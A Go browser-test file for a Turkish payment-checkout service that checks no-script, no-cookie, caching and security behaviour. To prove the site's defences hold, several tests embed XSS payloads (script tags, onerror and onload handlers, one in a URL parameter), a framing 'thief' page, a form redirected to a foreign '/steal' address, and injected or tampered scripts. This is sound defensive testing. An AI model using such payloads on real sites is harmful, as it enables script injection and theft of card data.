//go:build !race

package main

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"

	"github.com/odelink/odelink/checkout"
	chrome "github.com/odelink/odelink/gateway/testenv/browser"
)

// With the page's script blocked the whole way still works by forms and buttons, instalments included,
// and with the browser as with scripts on elsewhere (A9).
func TestUX_A9_BlockedScriptChangesNothing(t *testing.T) {
	t.Parallel()
	r := newSite(t, rigOptions{})
	l := r.link(map[string]any{"installments": []int{1, 3}})
	p := r.person(t, phone())
	call(t, p.Page, network.SetBlockedURLs, network.SetBlockedURLsParams{URLPatterns: []*network.BlockPattern{{URLPattern: "http://*:*/s/*.js", Block: true}}})
	p.Open(l["url"].(string))
	if chrome.Eval[bool](p.Page, `document.documentElement.classList.contains("on")`) {
		t.Fatal("the script ran")
	}
	p.Click("#ask summary")
	p.Fill("#bin", card("000")[:8])
	p.ClickAndLoad("#ask button")
	p.Click("#rows .row:has([value='3'])")
	p.fillCard(card("000"))
	p.ClickAndLoad("#go")
	p.WaitVisible("#bank button")
	p.Click("#bank button")
	p.WaitVisible("#challenge")
	p.answer("123456")
	p.want(t, ".receipt", "3 taksit", "259,00 TL")
	r.booksAgree()
}

// With cookies and storage refused, as in the browsers inside other apps, with a cookie planted by a
// neighbour, and after more than two minutes at the bank (when browsers stop sending lax cookies along):
// the payer comes back to his result, and none of ours but the link's reminder ever exists (F8, G3, N1, A41).
func TestUX_F8_G3_N1_A41_NoCookieNoStorage(t *testing.T) {
	t.Parallel()
	r := newSite(t, rigOptions{})
	p := r.person(t, phone())
	call(t, p.Page, emulation.SetDocumentCookieDisabled, emulation.SetDocumentCookieDisabledParams{Disabled: true})
	call(t, p.Page, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: `
		for (const name of ["localStorage", "sessionStorage", "indexedDB", "caches"])
			Object.defineProperty(window, name, {get() { throw new DOMException("refused", "SecurityError"); }});
		window.open = () => { throw new Error("no windows here"); };`})
	l := r.link(map[string]any{"installments": []int{1, 3}})
	p.Open(l["url"].(string))
	p.fillCard(card("000"))
	p.Click("#rows .row:has([value='3'])")
	p.toBank()
	r.clock.advance(3 * time.Minute)
	p.answer("123456")
	p.want(t, ".result", "Ödeme tamamlandı")
	p.quiet(t)

	planted := r.person(t, desktop())
	call(t, planted.Page, network.SetCookie, network.SetCookieParams{Name: "payment", Value: "pay_0000000000000000000000", URL: r.base})
	planted.pay(r.link(nil)["url"].(string), card("000"))
	planted.want(t, ".result", "Ödeme tamamlandı")
	if c := planted.Cookies(); !slices.Contains(c, "payment") || len(c) > 2 {
		t.Errorf("cookies: %v", c)
	}
	r.booksAgree()
}

// Markup in every text that others choose is text on every page, runs nowhere, and does not even reach
// the policy that would stop it (A35).
func TestUX_A35_HostileTextsAreText(t *testing.T) {
	t.Parallel()
	const hostile = `"><script>document.title="owned"</script><img src=x onerror=document.title="owned"><svg/onload=alert(1)>'{{.}}`
	r := newSite(t, rigOptions{tame: true})
	m, err := r.app.ledger.Merchant(context.Background(), demoMerchant)
	if err != nil {
		t.Fatal(err)
	}
	m.Name, m.LegalName, m.Version = "<b>Kötü</b>"+hostile, hostile, m.Version+1
	if err := r.app.ledger.SaveMerchant(context.Background(), m, operatorEvent(demoMerchant, string(m.ID), "merchant.changed", r.clock.Now())); err != nil {
		t.Fatal(err)
	}
	r.app.flow.Forget(demoMerchant)
	for scripts, off := range map[string]bool{"scripts on": false, "scripts off": true} {
		o := phone()
		o.ScriptsOff = off
		p := r.person(t, o)
		l := r.link(map[string]any{"description": hostile, "payer_note": true})
		harmless := func(where string) {
			t.Helper()
			if n := p.Count("script:not([src]), img[src=x], svg[onload], body b b"); n > 0 || p.Title() == "owned" {
				t.Errorf("%s, %s: markup of others became ours", scripts, where)
			}
		}
		p.Open(l["url"].(string))
		p.want(t, "main", hostile)
		p.want(t, "header", "<b>Kötü</b>")
		harmless("checkout")
		p.fillCard(card("051"))
		p.Fill("#card_holder", `<i onmouseover=alert(1)>`)
		p.Focus("#payer_note")
		p.paste(t, hostile)
		p.toBank()
		p.answer("123456")
		harmless("declined")
		p.Open(l["url"].(string))
		p.fillCard(card("000"))
		p.Focus("#payer_note")
		p.paste(t, hostile)
		p.toBank()
		p.answer("123456")
		p.want(t, ".receipt", hostile)
		harmless("receipt")
		p.quiet(t)
	}
	p := r.person(t, desktop())
	p.Open(r.base + `/p/AAAAAAAAAAAA?lang=%22%3E%3Cscript%3Edocument.title=%22owned%22%3C/script%3E`)
	if p.Title() == "owned" || strings.Contains(p.HTML(), "owned") {
		t.Error("the address is echoed as markup")
	}
	p.quiet(t)
}

// No page may be framed (A37).
func TestUX_A37_NoPageCanBeFramed(t *testing.T) {
	t.Parallel()
	r := newSite(t, rigOptions{tame: true})
	at := states(t, r)
	var frames strings.Builder
	for _, address := range at {
		frames.WriteString(`<iframe src="` + address + `"></iframe>`)
	}
	thief := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte("<!doctype html><title>thief</title>" + frames.String()))
	}))
	t.Cleanup(thief.Close)
	p := r.person(t, desktop())
	p.Open(thief.URL)
	p.until(t, "every page has refused to be framed", func() bool {
		refused := 0
		for _, e := range p.Errors() {
			if strings.Contains(e, "frame-ancestors") {
				refused++
			}
		}
		return refused == len(at)
	})
}

// The bank learns where the payer comes from and never the link's address; nobody else learns anything
// (A38). The way back needs neither Referer nor Origin.
func TestUX_A38_BankSeesTheOriginOnly(t *testing.T) {
	t.Parallel()
	r := newSite(t, rigOptions{})
	l := r.link(nil)
	p := r.person(t, phone())
	p.pay(l["url"].(string), card("000"))
	p.want(t, ".result", "Ödeme tamamlandı")
	seen := 0
	for _, q := range r.bank.Requests() {
		for name, value := range q.Header {
			if strings.Contains(value, l["token"].(string)) || strings.Contains(value, "/p/") || strings.Contains(value, "/r/") {
				t.Errorf("the bank sees %s: %s", name, value)
			}
		}
		if q.Header["Origin"] == r.base && q.Header["Referer"] == r.base+"/" {
			seen++
		}
		if strings.Contains(q.Query+q.Path, l["token"].(string)) {
			t.Errorf("the bank is asked for %s?%s", q.Path, q.Query)
		}
	}
	if seen == 0 {
		t.Error("the bank never learned the origin, which some banks insist on")
	}
	p.quiet(t)
}

// The hand-over's form can go to the bank and nowhere else, in a policy that the whole journey keeps:
// the same form with a foreign address is stopped by the browser (A7).
func TestUX_A7_HandOverGoesToTheBankAndNowhereElse(t *testing.T) {
	t.Parallel()
	r := newSite(t, rigOptions{})
	asked := make(chan struct{}, 1)
	foreign := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked <- struct{}{} }))
	t.Cleanup(foreign.Close)
	o := phone()
	o.ScriptsOff = true
	p := r.person(t, o)
	p.Open(r.link(nil)["url"].(string))
	p.fillCard(card("000"))
	p.ClickAndLoad("#go")
	p.WaitFor(`(document.getElementById("bank").action = "` + foreign.URL + `/steal", true)`)
	p.Click("#bank button")
	p.until(t, "the browser stops the form", func() bool { return len(p.Violations()) > 0 })
	select {
	case <-asked:
		t.Error("the foreign address was asked")
	default:
	}
	if v := p.Violations(); !strings.Contains(strings.Join(v, " "), "form-action") {
		t.Errorf("violations: %v", v)
	}
}

// A script that somebody adds to the page or changes on the way does not run (A42).
func TestUX_A42_ForeignScriptsDoNotRun(t *testing.T) {
	t.Parallel()
	r := newSite(t, rigOptions{tame: true})
	foreign := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		_, _ = w.Write([]byte(`document.title = "owned";`))
	}))
	t.Cleanup(foreign.Close)
	p := r.person(t, desktop())
	p.Open(r.link(nil)["url"].(string))
	chrome.Eval[bool](p.Page, `new Promise(done => {
		const add = (set) => { const s = document.createElement("script"); set(s); s.onerror = s.onload = () => done(true); document.head.append(s); };
		add(s => s.textContent = 'document.title = "owned"');
		document.body.insertAdjacentHTML("beforeend", '<a id="x" href="#" onclick="document.title=\'owned\'">x</a>'); x.click();
		add(s => s.src = "`+foreign.URL+`/x.js"); })`)
	chrome.Eval[bool](p.Page, `new Promise(done => { const ours = document.querySelector("script[integrity]"), s = document.createElement("script");
		s.integrity = "sha256-" + "A".repeat(43) + "="; s.src = ours.src; s.onload = () => { document.title = "owned"; done(true); }; s.onerror = () => done(true); document.head.append(s); })`)
	if p.Title() == "owned" {
		t.Error("a foreign script ran on the card page")
	}
	if v := strings.Join(p.Violations(), " "); strings.Count(v, "script-src") < 3 {
		t.Errorf("the policy refused %s", v)
	}
	for _, s := range chrome.Eval[[]string](p.Page, `[...document.querySelectorAll("script[src^='/s/'], link[rel=stylesheet]")].map(e => e.integrity)`) {
		if !strings.HasPrefix(s, "sha") {
			t.Errorf("a file of the page has no integrity value: %q", s)
		}
	}
}

// On a shared computer: no page that the history brings back holds a card number or a security code,
// whether the form was sent or only left, and none may be kept in a cache (A39). Browsers without
// scripts fill in by themselves what was typed; there only the server's own pages can be held.
func TestUX_A39_SharedComputer(t *testing.T) {
	t.Parallel()
	for scripts, off := range map[string]bool{"scripts on": false, "scripts off": true} {
		t.Run(scripts, func(t *testing.T) {
			t.Parallel()
			r := newSite(t, rigOptions{tame: true})
			l, left := r.link(nil), r.link(nil)
			o := desktop()
			o.ScriptsOff, o.Whole = off, true // with everything that a person's browser keeps
			p := r.person(t, o)
			p.Open(left["url"].(string))
			p.fillCard(card("051"))
			p.pay(l["url"].(string), card("051"))
			visited := 0
			for _, entry := range call(t, p.Page, page.GetNavigationHistory, cdp.Empty{}).Entries {
				if !strings.HasPrefix(entry.URL, "http") {
					continue
				}
				visited++
				now := chrome.Eval[float64](p.Page, "performance.timeOrigin")
				call(t, p.Page, page.NavigateToHistoryEntry, page.NavigateToHistoryEntryParams{EntryID: entry.ID})
				p.WaitFor(fmt.Sprintf(`performance.timeOrigin !== %f && document.readyState === "complete" && document.documentElement !== null`, now))
				if strings.Contains(p.HTML(), card("051")[:12]) {
					t.Errorf("%s (was %s) holds the card", p.URL(), entry.URL)
				}
				if kept := p.cardTyped(); kept != "" && !off {
					t.Errorf("%s (was %s) brings back %d characters of the card", p.URL(), entry.URL, len(kept))
				}
			}
			if visited < 4 {
				t.Errorf("%d pages in the history", visited)
			}
			for _, path := range []string{l["url"].(string), p.r.base + "/r/" + string(r.allPayments()[0].ID)} {
				if got := r.browser().get(path).header.Get("Cache-Control"); got != "no-store" {
					t.Errorf("%s: Cache-Control: %s", path, got)
				}
			}
			p.Open(left["url"].(string))
			p.fillCard(card("051"))
			p.Reload()
			if kept := p.cardTyped(); kept != "" && !off {
				t.Errorf("a reload brings back %d characters of the card", len(kept))
			}
		})
	}
}

// cardTyped is what stands in the fields that must never be kept.
func (p *person) cardTyped() string {
	return chrome.Eval[string](p.Page, `[...document.querySelectorAll("[name=card_number], [name=card_cvc], [name=Pan], [name=Cvv2]")].map(e => e.value).join("")`)
}

// Frictionless cards and half-secure ones never see a page of the issuer: the hand-over leads straight
// back, with and without scripts, in the same policy (A7, G2).
func TestUX_G2_FrictionlessCardComesStraightBack(t *testing.T) {
	t.Parallel()
	for scripts, off := range map[string]bool{"scripts on": false, "scripts off": true} {
		t.Run(scripts, func(t *testing.T) {
			t.Parallel()
			r := newSite(t, rigOptions{})
			o := phone()
			o.ScriptsOff = off
			p := r.person(t, o)
			p.Open(r.link(nil)["url"].(string))
			p.fillCard(card("001"))
			if off {
				p.ClickAndLoad("#go")
				p.want(t, "main", "Bankanızın doğrulama sayfasına yönlendiriliyorsunuz", "Devam et")
				p.ClickAndLoad("#bank button")
			} else {
				p.Click("#go")
			}
			p.reads(".result", "Ödeme tamamlandı")
			p.quiet(t)
			r.booksAgree()
		})
	}
}

// The bank cannot be reached: the payer reads so, that no money was taken, and can go back (D4).
func TestUX_D4_BankUnreachable(t *testing.T) {
	t.Parallel()
	r := newSite(t, rigOptions{})
	l := r.link(nil)
	r.account(func(a *checkout.Account) { a.BaseURL = "http://127.0.0.1:1/payfor/Gateway/" })
	p := r.person(t, phone())
	p.Open(l["url"].(string))
	p.fillCard(card("000"))
	status(t, "unreachable", p.ClickAndLoad("#go"), http.StatusServiceUnavailable)
	p.want(t, ".result", "Bankaya ulaşılamadı", "Kartınızdan para çekilmedi.")
	if n := strings.Count(p.says(".result"), "Bankaya ulaşılamadı"); n != 1 {
		t.Errorf("the page says it %d times", n)
	}
	status(t, "back", p.ClickAndLoad("a.go"), http.StatusOK)
	p.WaitVisible("#pay")
	p.quiet(t)
}
